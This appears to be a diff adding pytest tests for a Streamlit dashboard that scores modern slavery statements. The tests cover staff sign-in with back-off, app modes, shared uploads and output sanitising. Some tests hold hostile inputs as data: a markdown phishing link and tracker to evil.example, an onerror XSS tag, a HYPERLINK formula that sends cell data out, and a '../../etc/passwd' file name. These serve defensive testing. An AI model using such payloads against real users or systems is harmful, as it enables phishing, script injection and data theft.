@@ -1,12 +1,21 @@
 """Every dashboard page through Streamlit's AppTest: overview, review (a decision stored and shown),
-compare, self-assessment (an upload scored, not stored unless shared), and the staff sign-in."""
+compare, self-assessment (an upload scored, not stored unless shared, then queued for staff), shared
+statements, the staff sign-in with its back-off and sign-out, app modes, and what a hostile PDF or
+uploader can put on a staff member's screen or in a spreadsheet."""
 
 from __future__ import annotations
 
+import json
+import re
+import time
+
 import pytest
+import tomllib
 from streamlit.testing.v1 import AppTest
 
 from conftest import PDF_SAMPLES, ROOT, SAMPLES
+from disclosure_check import accounts, dashboard
+from disclosure_check.sanitize import escape_markdown
 from disclosure_check.store import Store
 
 APP = str(ROOT / "app.py")
@@ -36,6 +45,32 @@ def app() -> AppTest:
     return AppTest.from_file(APP, default_timeout=120)
 
 
+def ok(at: AppTest) -> AppTest:
+    """No exception, and none caught by the page guard either (it would hide a bug behind a reference)."""
+    assert not at.exception
+    assert not [e.value for e in at.error if "Something went wrong" in e.value]
+    return at
+
+
+STAFF, PASSWORD = "Dana Ó Súilleabháin", "Grüße aus Łódź — 安全な合言葉"
+
+
+@pytest.fixture
+def staff_db(db):
+    with Store(db) as store:
+        accounts.add_account(store, STAFF, PASSWORD)
+    return db
+
+
+def sign_in(at: AppTest, name: str = STAFF, password: str = PASSWORD) -> AppTest:
+    at.run()
+    assert at.title[0].value == "Staff sign-in"
+    at.text_input[0].input(name)
+    at.text_input[1].input(password)
+    at.button[0].click().run()
+    return at
+
+
 def test_overview_lists_documents_with_levels_and_downloads(db):
     at = app().run()
     assert not at.exception
@@ -61,14 +96,15 @@ def test_review_decision_is_stored_and_takes_precedence(db):
         lloyds = next(i["doc_id"] for i in store.results() if i["document"].endswith("lloyds_banking_group_2018.pdf"))
     assert any("lloyds_banking_group_2018.pdf" in o for o in at.selectbox[0].options)
     at.selectbox[0].select(lloyds).run()
-    at.text_input(key="reviewer").input("Test Reviewer").run()
+    assert "Local mode" in at.sidebar.caption[0].value  # no accounts: the OS user, labelled as such
     reject = next(b for b in at.button if b.key == f"no-{lloyds[:12]}-element-consultation")
     reject.click().run()
     assert not at.exception
     with Store(db) as store:
         [decision] = store.reviews()
-        assert (decision["target_kind"], decision["target_id"], decision["decision"], decision["reviewer"]) == (
-            "element", "consultation", "reject", "Test Reviewer")
+        assert (decision["target_kind"], decision["target_id"], decision["decision"]) == (
+            "element", "consultation", "reject")
+        assert decision["reviewer"].endswith(" (local, no sign-in)")
         item = next(i for i in store.reviewed_results() if i["document"].endswith("lloyds_banking_group_2018.pdf"))
         assert item["reviewed"] and item["elements"]["consultation"]["present"] is False
     assert any("consultation" in (e.label or "").lower() and "reviewed: reject" in e.label for e in at.expander)
@@ -112,9 +148,10 @@ def test_self_assessment_scores_an_upload_without_storing_it(db):
         assert store.table_count("documents") == 5  # nothing added by the upload
     at.checkbox[0].check().run()
     at.button[0].click().run()
+    assert at.success[-1].value == "Shared. The Commissioner's office will review it. Thank you."
     with Store(db) as store:
-        shared = [i for i in store.reviewed_results() if i["origin"] == "self-assessment"]
-        assert len(shared) == 1
+        assert [s["file_name"] for s in store.shares("pending")] == ["lombard_odier.pdf"]
+        assert store.table_count("documents") == 5  # waiting for staff, not in staff data
 
 
 def test_self_assessment_rejects_a_non_pdf(db):
@@ -125,17 +162,246 @@ def test_self_assessment_rejects_a_non_pdf(db):
     assert "not a PDF" in at.error[0].value
 
 
-def test_staff_pages_need_the_password_and_public_mode_shows_only_self_assessment(db, monkeypatch):
-    monkeypatch.setenv("DISCLOSURE_CHECK_STAFF_PASSWORD", "s3cret")
+def test_staff_sign_in_with_a_unicode_password_sets_a_cookie_and_signs_out(staff_db):
     at = app().run()
     assert at.title[0].value == "Staff sign-in" and not at.metric
-    at.text_input[0].input("Dana")
-    at.text_input[1].input("wrong")
-    at.button[0].click().run()
-    assert "Wrong password" in at.error[0].value
-    at.text_input[1].input("s3cret")
-    at.button[0].click().run()
+    sign_in(at, STAFF.lower(), "wrong password")
+    assert at.error[0].value == "Wrong name or password." and at.title[0].value == "Staff sign-in"
+    ok(sign_in(at))
+    assert at.title[0].value == "Overview" and at.metric
+    assert at.sidebar.caption[0].value == f"Signed in as **{escape_markdown(STAFF)}**"
+    with Store(staff_db) as store:
+        [session] = store.conn.execute("SELECT * FROM sessions").fetchall()
+        assert accounts.session_account(store, at.session_state["session_token"]) == STAFF
+    script = next(h.proto.body for h in at.get("html"))  # the page writes the token into the cookie once
+    assert f"{dashboard.SESSION_COOKIE}={at.session_state['session_token']}; Path=/; Max-Age=43200; SameSite=Strict" \
+        in json.loads(script.split("var c=")[1].split(";if(")[0])
+    at.switch_page("ui/review.py").run()
+    ok(at)
+    next(b for b in at.button if b.label == "Sign out").click().run()
+    assert at.title[0].value == "Staff sign-in"
+    assert "Max-Age=0" in next(h.proto.body for h in at.get("html"))
+    with Store(staff_db) as store:
+        assert store.table_count("sessions") == 0
+
+
+def test_review_records_the_signed_in_name(staff_db):
+    at = sign_in(app())
+    at.switch_page("ui/review.py").run()
+    ok(at)
+    assert not [t for t in at.text_input if "name" in (t.label or "").lower()]  # nobody types a name
+    doc = at.selectbox[0].value
+    next(b for b in at.button if b.key == f"no-{doc[:12]}-element-consultation").click().run()
+    with Store(staff_db) as store:
+        assert [r["reviewer"] for r in store.reviews()] == [STAFF]
+
+
+def test_repeated_failures_make_everyone_wait_across_sessions(staff_db):
+    sign_in(app(), STAFF, "wrong")
+    with Store(staff_db) as store:
+        key = "account:" + accounts.account_key(STAFF)
+        assert store.sign_in_failures(key)[0] == 1
+        for _ in range(9):  # as if guessed from other browsers just now
+            store.record_sign_in_failure(key, time.time(), forget_after=3600)
+    refused = sign_in(app())  # the right password, in a new session
+    assert refused.title[0].value == "Staff sign-in"
+    wait = re.fullmatch(r"Too many failed sign-ins\. Try again in (\d+) seconds\.", refused.error[0].value)
+    assert wait and int(wait[1]) > 30  # ten failures: 2 s doubled five times
+    with Store(staff_db) as store:
+        assert store.sign_in_failures(key)[0] == 10 and store.table_count("sessions") == 0
+
+
+def test_no_accounts_means_no_staff_pages_for_remote_browsers(db, monkeypatch):
+    monkeypatch.setattr(dashboard, "local_client", lambda: False)
+    monkeypatch.setenv("DISCLOSURE_CHECK_STAFF_PASSWORD", "s3cret")  # the old shared password opens nothing
+    at = app().run()
+    assert at.title[0].value == "Staff sign-in" and not at.metric and not at.text_input
+    assert "disclosure-check staff add NAME" in at.warning[0].value
+
+
+@pytest.mark.parametrize("mode", ["public", "Public", " PUBLIC "])
+def test_public_mode_serves_only_self_assessment(staff_db, monkeypatch, mode):
+    monkeypatch.setenv("DISCLOSURE_CHECK_APP_MODE", mode)
+    at = ok(app().run())
+    assert at.title[0].value == "Check your modern slavery statement"
+    with pytest.raises(Exception, match="review.py"):
+        at.switch_page("ui/review.py").run()
+    assert not at.metric and not [t for t in at.title if t.value != "Check your modern slavery statement"]
+
+
+@pytest.mark.parametrize("mode", ["admin", "staff,public", "публичный"])
+def test_an_unknown_app_mode_serves_nothing(db, monkeypatch, mode):
+    monkeypatch.setenv("DISCLOSURE_CHECK_APP_MODE", mode)
+    at = app().run()
+    assert not at.exception and not at.title and not at.metric and not at.file_uploader
+    assert "unknown dashboard mode" in at.error[0].value and "'staff'" in at.error[0].value
+
+
+PAYLOAD = ("![tracker](https://evil.example/p.png) [Re-enter your staff password](https://evil.example/login) "
+           "<img src=x onerror=alert(1)> :red[**urgent**] # heading")
+
+
+UNESCAPED = re.compile(r"(?<!\\)(\]\(|<img|:red\[)")  # a link or image, an HTML tag, a colour directive
+
+
+def rendered(at: AppTest) -> list[str]:
+    return ([m.value for m in at.markdown] + [c.value for c in at.caption] + [w.value for w in at.warning]
+            + [e.label for e in at.expander] + [i.value for i in at.info] + [e.value for e in at.error]
+            + [s.value for s in at.success] + [m.label for m in at.metric])
+
+
+def test_markdown_and_html_from_a_pdf_or_a_name_render_as_text(db):
+    with Store(db) as store:
+        accounts.add_account(store, "Eve ![x](https://evil.example/n.png)", PASSWORD)
+        row = store.conn.execute("SELECT r.id, r.result_json, r.doc_id FROM results r JOIN documents d USING (doc_id) "
+                                 "WHERE d.file_name='lloyds_banking_group_2018.pdf'").fetchone()
+        item = json.loads(row["result_json"])
+        criterion = next(c for c in item["criteria"] if c["applies"] and c["evidence"])
+        criterion["flags"] = [PAYLOAD]
+        criterion["evidence"][0]["text"] = PAYLOAD
+        element = next(e for e in item["elements"].values() if e["evidence"])
+        element["evidence"][0]["text"] = PAYLOAD
+        store.conn.execute("UPDATE results SET result_json=?, scored_at='2099-01-01' WHERE id=?",
+                           (json.dumps(item), row["id"]))
+        store.conn.execute("UPDATE documents SET organisation=? WHERE doc_id=?", (PAYLOAD, row["doc_id"]))
+        store.conn.commit()
+    at = sign_in(app(), "Eve ![x](https://evil.example/n.png)", PASSWORD)
     assert at.title[0].value == "Overview"
-    monkeypatch.setenv("DISCLOSURE_CHECK_APP_MODE", "public")
-    public = app().run()
-    assert public.title[0].value == "Check your modern slavery statement"
+    at.switch_page("ui/review.py").run()
+    at.selectbox[0].select(row["doc_id"]).run()
+    ok(at)
+    texts = rendered(at) + [c.value for c in at.sidebar.caption]
+    assert f"> {escape_markdown(PAYLOAD)}" in texts  # the quote, shown literally
+    assert escape_markdown(PAYLOAD) in [w.value for w in at.warning]  # the flag
+    assert f"Signed in as **{escape_markdown('Eve ![x](https://evil.example/n.png)')}**" in texts
+    for text in texts:
+        assert not UNESCAPED.search(text), text
+    at.switch_page("ui/compare.py").run()
+    ok(at)
+    for text in rendered(at):
+        assert not UNESCAPED.search(text), text
+
+
+def test_spreadsheet_downloads_carry_no_live_formulas(db):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Barclays")'
+    with Store(db) as store:
+        store.conn.execute("UPDATE documents SET organisation=? WHERE file_name='barclays_2019.pdf'", (formula,))
+        store.conn.commit()
+    at = ok(app().run())
+    table = at.dataframe[0].value
+    assert formula in set(table["organisation"]) and "origin" in table.columns  # shown as text on screen
+    safe = dashboard.spreadsheet_safe(table)
+    assert "'" + formula in set(safe["organisation"]) and "LV=" in set(safe["organisation"])
+    assert list(safe["overall_level"]) == list(table["overall_level"])  # numbers untouched
+    assert not any(v.startswith(("=", "+", "-", "@")) for col in safe.columns for v in safe[col] if isinstance(v, str))
+
+
+def test_shares_stay_out_of_staff_data_until_accepted(staff_db, scorer):
+    fake = scorer.score_file(SAMPLES / "bluebay_asset_management_2019.pdf")  # shared as if it were Barclays
+    with Store(staff_db) as store:
+        lv = next(i for i in store.results() if i["document"].endswith("lv_2018.pdf"))
+        lv_before = tuple(store.conn.execute("SELECT * FROM documents WHERE doc_id=?", (lv["doc_id"],)).fetchone())
+        payload = dashboard.result_to_dict(fake)
+        fake_id = store.add_share({**payload, "document": "barclays_2019.pdf"}, file_name="barclays_2019.pdf")
+        lv_share = store.add_share({**lv, "document": "lv_2018.pdf"}, file_name="lv_2018.pdf")
+    at = sign_in(app())
+    assert {m.label: m.value for m in at.metric}["Documents"] == "4"
+    at.switch_page("ui/compare.py").run()
+    at.selectbox[0].select("Barclays").run()
+    assert list(at.dataframe[0].value["origin"]) == ["batch"]
+    at.switch_page("ui/shares.py").run()
+    ok(at)
+    assert at.title[0].value == "Shared statements" and "Waiting (2)" in [s.value for s in at.subheader]
+    assert any("already scored in a batch" in c.value for c in at.caption)
+    at.button(key=f"accept-{lv_share}").click().run()
+    assert "already scored in a batch" in at.info[0].value
+    at.button(key=f"accept-{fake_id}").click().run()
+    ok(at)
+    with Store(staff_db) as store:
+        decided = {s["id"]: (s["status"], s["duplicate"], s["decided_by"]) for s in store.shares()}
+        assert decided == {lv_share: ("accepted", 1, STAFF), fake_id: ("accepted", 0, STAFF)}
+        assert tuple(store.conn.execute("SELECT * FROM documents WHERE doc_id=?", (lv["doc_id"],)).fetchone()) \
+            == lv_before
+    at.switch_page("ui/overview.py").run()
+    table = at.dataframe[0].value
+    assert len(table) == 5 and sorted(table.loc[table["file"] == "barclays_2019.pdf", "origin"]) == [
+        "batch", "self-assessment"]
+    at.switch_page("ui/review.py").run()
+    at.selectbox[0].select(fake.doc_id).run()
+    assert any(c.value.startswith("shared by the business \\(self\\-assessment\\)") for c in at.caption)
+
+
+def test_sharing_is_rate_limited_with_a_clear_message(db):
+    with Store(db) as store:
+        item = store.results()[0]
+        for n in range(dashboard.SHARES_PER_HOUR):
+            store.add_share({**item, "doc_id": f"other-{n}"}, file_name=f"s{n}.pdf", source=f"browser-{n}")
+    at = app()
+    at.run()
+    at.switch_page("ui/self_assessment.py").run()
+    data = (SAMPLES / "lv_2018.pdf").read_bytes()
+    at.file_uploader[0].set_value(("lv.pdf", data, "application/pdf")).run()
+    at.checkbox[0].check().run()
+    at.button[0].click().run()
+    ok(at)
+    assert "a lot of statements right now" in at.warning[0].value
+    with Store(db) as store:
+        assert store.table_count("shares") == dashboard.SHARES_PER_HOUR
+
+
+def test_upload_limit_and_toolbar_settings_match_the_page():
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert config["server"]["maxUploadSize"] == dashboard.MAX_UPLOAD_MB == 20
+    assert config["client"] == {"toolbarMode": "viewer", "showErrorDetails": "none"}
+    at = app()
+    at.run()
+    at.switch_page("ui/self_assessment.py").run()
+    assert at.file_uploader[0].label == "Statement (PDF, up to 20 MB)"
+    assert at.file_uploader[0].proto.max_upload_size_mb == 20
+
+
+def test_an_unexpected_error_shows_a_reference_not_a_traceback(caplog):
+    def script():
+        from disclosure_check.dashboard import run_guarded
+
+        def broken():
+            raise KeyError("/srv/secret/path.db")
+
+        run_guarded(broken)
+
+    at = AppTest.from_function(script).run()
+    assert not at.exception
+    message = at.error[0].value
+    assert message.startswith("Something went wrong (reference ") and "secret" not in message
+    reference = message.split("reference ")[1].split(")")[0]
+    assert any(reference in r.getMessage() and r.exc_info for r in caplog.records)
+
+
+def test_clients_cannot_clear_the_servers_caches():
+    import streamlit as st
+    from streamlit.runtime.app_session import AppSession
+
+    calls = []
+
+    @st.cache_data
+    def cached(x):
+        calls.append(x)
+        return x
+
+    cached(1)
+    original = AppSession._handle_clear_cache_request
+    try:
+        dashboard.disable_cache_clearing()
+        AppSession._handle_clear_cache_request(object())  # what a client's "clear_cache" message runs
+        cached(1)
+        assert calls == [1]
+    finally:
+        AppSession._handle_clear_cache_request = original
+
+
+def test_uploaded_file_names_are_made_safe():
+    assert dashboard.upload_file_name("../../etc/passwd") == "passwd.pdf"
+    assert dashboard.upload_file_name("..") == "statement.pdf"
+    assert dashboard.upload_file_name("C:\\Users\\x\\Barclays 2019.PDF") == "Barclays 2019.pdf"
+    assert dashboard.upload_file_name("\u202eevil [x](y).pdf") == "evil _x_(y).pdf"
+    assert len(dashboard.upload_file_name("a" * 500 + ".pdf")) == 120
